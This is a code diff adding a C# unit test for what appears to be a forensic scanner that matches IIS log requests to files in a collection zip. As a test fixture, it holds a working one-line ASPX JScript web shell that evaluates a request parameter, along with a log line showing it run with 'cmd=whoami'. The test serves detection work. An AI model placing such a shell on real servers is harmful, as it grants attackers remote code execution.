@@ -127,3 +127,29 @@ public class CorrelationTests
         Assert.Empty(found);
     }
 }
+
+public class CorrelationZipTests
+{
+    [Fact]
+    public void Velociraptor_zip_correlates_and_hashes_the_entry()
+    {
+        const string shell = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>";
+        using var dir = new Fixture.TempDir();
+        var zipPath = System.IO.Path.Combine(dir.Path, "collection.zip");
+        using (var zip = System.IO.Compression.ZipFile.Open(zipPath, System.IO.Compression.ZipArchiveMode.Create))
+        {
+            void Add(string name, string text)
+            {
+                using var w = new StreamWriter(zip.CreateEntry(name).Open());
+                w.Write(text);
+            }
+            Add("uploads/auto/C%3A/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", PageRequestRuleTests.IisHeader +
+                "2021-03-03 04:12:55 10.0.0.5 GET /aspnet_client/system_web/a1b2.aspx cmd=whoami 443 - 198.51.100.23 Mozilla/5.0 - 200 0 0 62\n");
+            Add("uploads/auto/C%3A/inetpub/wwwroot/aspnet_client/system_web/a1b2.aspx", shell);
+        }
+        var result = new Exhunt.Scanning.Scanner(new Exhunt.Scanning.ScanOptions { MaxParallelism = 2 }).Scan(zipPath);
+        var hit = Assert.Single(result.Findings, f => f.Rule.Id == "corr-implicated-file-present");
+        Assert.Equal("uploads/auto/C%3A/inetpub/wwwroot/aspnet_client/system_web/a1b2.aspx", hit.Artifact);
+        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(shell))), hit.Details!["sha256"]);
+    }
+}
